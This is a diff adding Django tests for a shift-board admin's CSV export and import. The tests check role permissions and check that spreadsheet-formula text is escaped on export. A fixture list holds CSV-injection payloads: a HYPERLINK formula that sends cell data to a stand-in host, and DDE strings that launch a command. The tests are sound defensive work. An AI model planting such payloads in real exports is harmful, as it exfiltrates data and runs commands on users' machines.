@@ -100,3 +100,70 @@ def test_an_analyst_sees_campaigns_and_progress_but_cannot_send_or_edit(login, b
     assert c.get("/admin/shifts/shift/import/").status_code == 403
     assert c.get(f"/admin/shifts/shiftcampaign/{campaign.pk}/progress.json").status_code == 200
     assert not OutboundMessage.objects.exists()
+
+
+# ------------------------------------------------------------------ CSV export and import
+
+
+def _export_csv(c):
+    """Export the shift board as CSV through the admin's export form, every column ticked."""
+    import re
+
+    form = c.get("/admin/shifts/shift/export/")
+    assert form.status_code == 200
+    columns = set(re.findall(r'name="(shiftresource_\w+)"', form.content.decode()))
+    assert columns
+    return c.post("/admin/shifts/shift/export/", {"format": "0", "resource": "0", **dict.fromkeys(columns, "on")})
+
+
+def test_only_users_who_may_view_shifts_may_export_or_see_the_button(login, board):
+    c = login("dispatcher")  # staff, but shifts are not theirs
+    assert c.get("/admin/shifts/shift/export/").status_code == 403
+    assert c.post("/admin/shifts/shift/export/", {"format": "0"}).status_code == 403
+    assert c.get("/admin/shifts/shift/import/").status_code == 403
+
+    c = login("analyst")
+    r = _export_csv(c)
+    assert r.status_code == 200 and r["Content-Type"].startswith("text/csv")
+    assert "XYZ1234" in r.content.decode()
+    assert c.get("/admin/shifts/shift/import/").status_code == 403  # viewing is not adding
+
+
+def test_a_shift_manager_sees_export_and_import(login, board):
+    c = login("shift manager")
+    board_page = c.get("/admin/shifts/shift/").content.decode()
+    assert "/admin/shifts/shift/export/" in board_page and "/admin/shifts/shift/import/" in board_page
+    assert c.get("/admin/shifts/shift/import/").status_code == 200
+    assert _export_csv(c).status_code == 200
+
+
+FORMULAE = [
+    '=HYPERLINK("http://evil.example/?d="&A1,"Details")',
+    '==HYPERLINK("http://evil.example/")',  # import-export's own escape strips only one "="
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "\t=1+1",
+]
+
+
+def test_exported_text_that_a_spreadsheet_would_run_comes_out_as_text(login, board):
+    import csv
+    import io
+
+    for i, text in enumerate(FORMULAE):
+        services.shift_create(code=f"EVIL{i:03d}", info=text, location=text if i == 0 else "Dock 1")
+    c = login("shift manager")
+    rows = list(csv.DictReader(io.StringIO(_export_csv(c).content.decode())))
+    by_code = {r["code"]: r for r in rows}
+    for i, text in enumerate(FORMULAE):
+        assert by_code[f"EVIL{i:03d}"]["info"] == "'" + text.strip()
+    assert by_code["EVIL000"]["location"] == "'" + FORMULAE[0]
+    # Ordinary text and plain numbers (an E.164 phone) are left as they are.
+    assert by_code["XYZ1234"]["info"] == "Warehouse picker"
+    from shifts.resources import spreadsheet_safe
+
+    assert spreadsheet_safe("+12065550100") == "+12065550100" and spreadsheet_safe("-3") == "-3"
+    for r in rows:
+        for cell in r.values():
+            assert not cell.startswith(("=", "+", "-", "@", "\t")) or cell.lstrip("+-").isdigit(), cell
